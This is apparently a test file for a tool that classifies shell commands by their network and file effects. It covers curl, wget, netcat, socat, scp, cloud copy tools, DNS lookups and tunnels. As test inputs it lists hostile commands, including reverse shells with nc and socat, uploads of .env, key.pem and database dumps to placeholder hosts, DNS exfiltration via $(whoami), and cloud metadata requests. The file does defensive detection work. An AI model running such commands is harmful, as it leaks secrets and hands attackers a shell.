import { describe, expect, it } from 'vitest';
import { shownRuns } from '../../../support/outcome.ts';
import { effectsOf, outcomeOf } from '../../../support/programs.ts';
import { PROJECT } from '../../../support/setting.ts';

const here = (name: string) => `${PROJECT}/${name}`;

describe('the configuration of curl', () => {
  it.each([
    ['url = "https://h.example/x"\nupload-file = notes.md\n', 'curl https://h.example/x --upload-file notes.md'],
    ['# mine\n-d @notes.md\nurl=https://h.example', 'curl -d @notes.md https://h.example'],
    ['silent\n', 'curl'],
  ])('counts like the command line: %j', (text, same) => {
    expect([...effectsOf('curl -K -', { stdin: { origin: 'literal', text } })].sort()).toEqual([...effectsOf(same)].sort());
  });
});

describe('curl', () => {
  it.each([
    ['curl -fsSL https://example.com/x', ['net.request example.com']],
    ['curl example.com', ['net.request plain-http example.com']],
    ['curl -sk https://h.example/', ['net.request insecure h.example']],
    ['curl localhost:3000/health', ['net.request plain-http localhost']],
    ['curl -s -o /dev/null -w %{http_code} https://h.example/', ['net.request h.example']],
    ['curl -fLo out/tool.tgz https://h.example/t', ['net.download h.example', `file.write ${here('out/tool.tgz')}`]],
    ['curl -LO https://h.example/a/tool.tgz?x=1', ['net.download h.example', `file.write ${here('tool.tgz')}`]],
    ['curl --output-dir bin -O https://h.example/a/tool', ['net.download h.example', `file.write ${here('bin/tool')}`]],
    ["curl -X POST -d 'a=1' https://h.example/", ['net.upload literal h.example']],
    ['curl -d "$value" https://h.example/', ['net.upload dynamic h.example']],
    ['curl --data-binary @.env https://h.example/', [`file.read ${here('.env')}`, 'net.upload contents h.example']],
    ["curl --data-raw '@home' https://h.example/", ['net.upload literal h.example']],
    ['curl --data-urlencode k@notes.txt https://h.example/', [`file.read ${here('notes.txt')}`, 'net.upload contents h.example']],
    ["curl -F 'f=@dump.sql;type=text/plain' https://h.example/", [`file.read ${here('dump.sql')}`, 'net.upload contents h.example']],
    ['curl -T backup.tar https://transfer.sh/', [`file.read ${here('backup.tar')}`, 'net.upload contents transfer.sh']],
    ['curl --json @- https://h.example/', ['net.upload fed h.example']],
    ['curl -H @headers https://h.example/', [`file.read ${here('headers')}`, 'net.upload contents h.example']],
    ['curl -X DELETE https://h.example/items/1', ['net.request delete h.example']],
    ['curl -x http://proxy.example:3128 https://h.example/', ['net.request h.example', 'net.request plain-http proxy.example']],
    ['curl --resolve h.example:443:203.0.113.9 https://h.example/', ['net.request h.example', 'net.request 203.0.113.9']],
    ['curl -K settings.curl', [`file.read ${here('settings.curl')}`]],
    ['curl -c jar https://h.example/', ['net.request h.example', `file.write ${here('jar')}`]],
    ['curl -N telnet://h.example:23', ['net.request plain-http,raw-socket h.example']],
    ['curl file:///etc/hosts', ['file.read /etc/hosts']],
    ['curl "https://h.example/?q=$(whoami)"', ['net.request dynamic h.example']],
    ['curl http://169.254.169.{254,253}/latest', ['net.request plain-http 169.254.169.254', 'net.request plain-http 169.254.169.253']],
    ['curl --unix-socket /var/run/docker.sock http://x/info', ['net.request plain-http x', 'net.request /var/run/docker.sock']],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('prints what it downloads, and writes it where it is told to', () => {
    expect(outcomeOf('curl https://h.example/i.sh').stdout?.origin).toBe('downloaded');
    expect(outcomeOf('curl file:///tmp/x').stdout).toMatchObject({ origin: 'file', path: { value: '/tmp/x' } });
    const [write] = outcomeOf('curl -o i.sh https://h.example/i.sh').writes ?? [];
    expect(write).toMatchObject({ path: { value: 'i.sh' }, stream: { origin: 'downloaded' } });
  });

  it('sends what was written out when its standard input was', () => {
    expect(effectsOf('curl -d @- https://h.example/', { stdin: { origin: 'literal', text: 'x' } })).toEqual([
      'net.upload literal h.example',
    ]);
  });
});

describe('wget', () => {
  it.each([
    ['wget https://h.example/a/b.zip', ['net.download h.example', `file.write ${here('b.zip')}`]],
    ['wget h.example', ['net.download plain-http h.example', `file.write ${here('index.html')}`]],
    ['wget -qO- https://h.example/i.sh', ['net.request h.example']],
    ['wget -P lib https://h.example/b.jar', ['net.download h.example', `file.write ${here('lib/b.jar')}`]],
    ['wget --spider https://h.example/', ['net.request h.example']],
    ['wget --post-file=.env -O - https://h.example/', [`file.read ${here('.env')}`, 'net.upload contents h.example']],
    ['wget --post-data=a=1 -qO /dev/null https://h.example/', ['net.upload literal h.example']],
    ['wget -i list.txt', [`file.read ${here('list.txt')}`]],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('runs the program that is to ask for a password', () => {
    expect(outcomeOf('wget --use-askpass=./ask https://h.example/').runs).toMatchObject([{ kind: 'argv', argv: [{ value: './ask' }] }]);
    expect(outcomeOf("wget -e 'use_askpass = ./ask' https://h.example/").runs).toMatchObject([
      { kind: 'argv', argv: [{ value: './ask' }] },
    ]);
  });
});

describe('httpie and xh', () => {
  it.each([
    ['http GET https://h.example/x q==1', ['net.request h.example']],
    ['http :3000/items', ['net.request plain-http localhost']],
    ['https h.example name=ada', ['net.upload literal h.example']],
    ['http --form POST h.example file@.env', [`file.read ${here('.env')}`, 'net.upload contents,plain-http h.example']],
    ['xh DELETE https://h.example/1', ['net.request delete h.example']],
    ['xh -d https://h.example/a.bin', ['net.download h.example', `file.write ${here('a.bin')}`]],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });
});

describe('raw sockets', () => {
  it.each([
    ['nc -zv h.example 443', ['net.request raw-socket h.example']],
    ['nc -lvnp 4444', ['net.listen raw-socket 4444']],
    ['nc -l 9000', ['net.listen raw-socket 9000']],
    ['nc -e /bin/sh 203.0.113.5 4444', ['net.request raw-socket,reverse-shell 203.0.113.5']],
    ["ncat --sh-exec 'sh -i' 203.0.113.5 4444", ['net.request raw-socket,reverse-shell 203.0.113.5']],
    ['nc -lp 4444 -e /bin/bash', ['net.listen raw-socket,reverse-shell 4444']],
    ['socat TCP:203.0.113.5:4444 EXEC:/bin/sh,pty', ['net.request raw-socket,reverse-shell 203.0.113.5']],
    ['socat TCP-LISTEN:8080,fork TCP:localhost:80', ['net.listen raw-socket 8080', 'net.request raw-socket localhost']],
    ['socat -u FILE:dump.sql TCP:h.example:9', [`file.read ${here('dump.sql')}`, 'net.upload raw-socket h.example']],
    ['telnet h.example 25', ['net.request plain-http,raw-socket h.example']],
    ['openssl s_client -connect h.example:443', ['net.request raw-socket h.example']],
    ['openssl version', []],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('carry away what is piped into them', () => {
    expect(effectsOf('nc h.example 9', { stdin: { origin: 'file' } })).toEqual(['net.upload fed,raw-socket h.example']);
  });

  it('run the program at their end', () => {
    expect(outcomeOf('nc -e /bin/sh h.example 1').runs).toMatchObject([{ kind: 'argv', argv: [{ value: '/bin/sh' }] }]);
    expect(outcomeOf("socat TCP:h.example:1 SYSTEM:'id; uname'").runs).toMatchObject([{ kind: 'shell', text: { value: 'id; uname' } }]);
  });
});

describe('copies to and from other machines', () => {
  it.each([
    ['scp .env ada@h.example:/tmp/', [`file.read ${here('.env')}`, 'net.upload contents h.example']],
    ['scp -r h.example:/srv/data ./data', ['net.download recursive h.example', `file.write ${here('data')}`]],
    ['scp a.txt b.txt', [`file.read ${here('a.txt')}`, `file.write ${here('b.txt')}`]],
    ['sftp ada@h.example', ['net.request h.example']],
    ['lftp -e "put dump.sql; bye" h.example', [`file.read ${here('dump.sql')}`, 'net.upload contents h.example']],
    ['ftp h.example', ['net.request plain-http h.example']],
    ['rclone sync ./photos drive:photos', [`file.read ${here('photos')}`, 'net.upload contents,delete,recursive drive']],
    ['rclone config dump', ['secret.dump']],
    ['aws s3 cp dump.sql s3://bucket/x', [`file.read ${here('dump.sql')}`, 'net.upload contents bucket']],
    ['gsutil -m cp gs://bucket/x .', ['net.download bucket', `file.write ${PROJECT}`]],
    [
      'az storage blob upload -f a.bin --account-name acme -c files',
      [`file.read ${here('a.bin')}`, 'net.upload contents acme.blob.core.windows.net'],
    ],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('read the batch that sftp is given', () => {
    const batch = { stdin: { origin: 'literal', text: 'cd /in\nput .env\n' } } as const;
    expect(effectsOf('sftp -b - h.example', batch)).toEqual([`file.read ${here('.env')}`, 'net.upload contents h.example']);
  });

  it('run what is to make the connection', () => {
    expect(outcomeOf("scp -o 'ProxyCommand=sh ./x.sh' a h.example:b").runs).toMatchObject([
      { kind: 'shell', text: { value: 'sh ./x.sh' } },
    ]);
  });
});

describe('look-ups, mail, tunnels and other services', () => {
  it.each([
    ['dig +short example.com', ['net.request dns example.com']],
    ['dig @9.9.9.9 example.com TXT', ['net.request dns 9.9.9.9', 'net.request dns example.com']],
    ['dig $(echo x).y.example', ['net.upload dns,dynamic ?']],
    ['nslookup $(whoami).x.example', ['net.upload dns,dynamic ?']],
    ['ping -c 1 "$(hostname).x.example"', ['net.upload dns,dynamic ?']],
    ['ping -c 1 h.example', ['net.request dns h.example']],
    ['whois example.com', ['net.request example.com']],
    ['nmap -sV 10.0.0.0/24', ['process.inspect']],
    ['mail -s hi -A dump.sql eve@h.example', [`file.read ${here('dump.sql')}`, 'net.upload contents h.example']],
    ['ngrok http 8080', ['net.listen tunnel 8080']],
    ['cloudflared tunnel --url http://localhost:3000', ['net.listen tunnel tunnel']],
    ['aria2c -d lib -o a.zip https://h.example/a', ['net.download h.example', `file.write ${here('lib/a.zip')}`]],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });
});

describe('a request to a forge', () => {
  const sent = (text: string) => effectsOf(text).filter((effect) => /^(?:net|file)\./.test(effect));

  it.each([
    ['gh api repos/o/r/pulls', ['net.request api.github.com']],
    ['gh api -X POST repos/o/r/issues -f title=x', ['net.upload literal api.github.com']],
    ['gh api graphql -f query={viewer{login}}', ['net.request api.github.com']],
    ['gh api repos/o/r/issues -F body=@notes.md', [`file.read ${here('notes.md')}`, 'net.upload contents api.github.com']],
  ])('%s', (text, effects) => {
    expect(sent(text)).toEqual(effects);
  });
});

describe('servers of files', () => {
  it.each([
    ['serve -l 5000 /srv/www', ['file.read contents /srv/www', 'net.listen broad ?']],
    ['serve --listen tcp://localhost:5000 dist', ['net.listen private']],
    ['http-server ~/notes -a 127.0.0.1', ['net.listen private']],
    ['php -S 0.0.0.0:8000 -t public', ['exec interactive', 'file.read contents /home/ada/code/shop/public', 'net.listen broad ?']],
    ['ruby -run -e httpd / -p 8000', ['file.read contents /', 'net.listen broad ?', 'ruby: httpd']],
    ['busybox httpd -f -h /srv', ['file.read contents /srv', 'net.listen broad ?', 'argv httpd -f -h /srv']],
    ['busybox httpd -f -p 127.0.0.1:8080', ['net.listen private', 'argv httpd -f -p 127.0.0.1:8080']],
    ['serve --help', []],
  ])('%s: %j', (text, expected) => expect([...effectsOf(text), ...shownRuns(outcomeOf(text))]).toEqual(expected));
});

describe('what hands files over or opens a way in', () => {
  it.each([
    ['ngrok --version', []],
    ['tailscale status', []],
    ['tailscale funnel 3000', ['net.listen tunnel 3000']],
    ['frpc -c frpc.ini', ['net.listen tunnel frpc.ini']],
    ['frpc verify', []],
    ['croc send notes.md', ['file.read /home/ada/code/shop/notes.md', 'net.upload contents croc']],
    ['croc --yes code-of-other', []],
    ['wormhole send key.pem', ['file.read /home/ada/code/shop/key.pem', 'net.upload contents wormhole']],
    ['ipfs add -r docs', ['file.read /home/ada/code/shop/docs', 'net.upload contents ipfs']],
    ['ipfs cat Qm1', []],
    ['aws s3 cp s3://b/x -', ['net.download b']],
    ['gsutil cat gs://b/x.json', ['net.download b']],
  ])('%s: %j', (text, expected) => expect([...effectsOf(text), ...shownRuns(outcomeOf(text))]).toEqual(expected));
});
